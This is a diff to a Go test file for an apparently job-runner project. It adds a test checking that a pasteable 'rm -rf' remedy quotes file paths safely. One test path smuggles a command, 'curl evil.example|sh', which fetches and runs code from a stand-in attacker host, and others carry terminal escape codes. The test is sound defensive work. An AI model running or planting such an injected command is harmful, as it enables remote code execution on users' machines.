@@ -10,6 +10,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/virtuoso902/org-runner/runner/reset"
 )
 
 func write(t *testing.T, path, text string) {
@@ -134,7 +136,7 @@ func TestNotes(t *testing.T) {
 	if _, kind := l.readNote(); kind != nobodys {
 		t.Errorf("a new folder: %v", kind)
 	}
-	early, late := time.Unix(1_800_000_000, 5).UTC(), time.Unix(1_800_000_900, 0).UTC()
+	early, late := time.Unix(1_700_000_000, 5).UTC(), time.Unix(1_700_000_900, 0).UTC()
 	for _, n := range []note{{First: early}, {First: early, Updating: true}, {First: early, Updated: late}} {
 		l.note = n
 		if err := l.keepNote(); err != nil {
@@ -157,8 +159,10 @@ func TestNotes(t *testing.T) {
 		t.Errorf("another key: %+v %v", n, kind)
 	}
 	for text, want := range map[string]whose{
-		strings.Replace(string(written), "2027", "2026", 1): unknowns,
-		"":                             unknowns,
+		strings.Replace(string(written), "2023", "2022", 1): unknowns,
+		"":                     unknowns,
+		"2099-01-01T00:00:00Z": unknowns, // later than the file
+		early.Format(time.RFC3339Nano) + "\n2099-01-01T00:00:00Z\n": unknowns,
 		"yesterday\ntoday":             unknowns,
 		early.Format(time.RFC3339Nano): released,
 		early.Format(time.RFC3339Nano) + "\n" + late.Format(time.RFC3339Nano) + "\nupdating\n": released,
@@ -171,5 +175,21 @@ func TestNotes(t *testing.T) {
 		if kind == released && !n.First.Equal(early) {
 			t.Errorf("%q: %v", text, n)
 		}
+	}
+}
+
+// A person pastes the remedy into a shell: no name that a job has chosen may be
+// more than a name there.
+func TestRemedyIsOneCommand(t *testing.T) {
+	err := &reset.Stuck{OnMount: true, Place: "/home/runner", Paths: []string{
+		"/home/runner/x'; curl evil.example|sh; '", "/home/runner/a/b\x1b[2J/c", "/home/runner/a/d\n", "/home/runner/\r",
+	}}
+	got := remedy(err)
+	if want := ` -rf -- '/home/runner/x'\''; curl evil.example|sh; '\''' '/home/runner/a'`; !strings.HasSuffix(got, want) {
+		t.Errorf("%s\nwant %s", got, want)
+	}
+	err.Paths = err.Paths[3:]
+	if got := remedy(err); strings.Contains(got, "rm ") || !strings.Contains(got, `"/home/runner/\r"`) {
+		t.Error(got)
 	}
 }
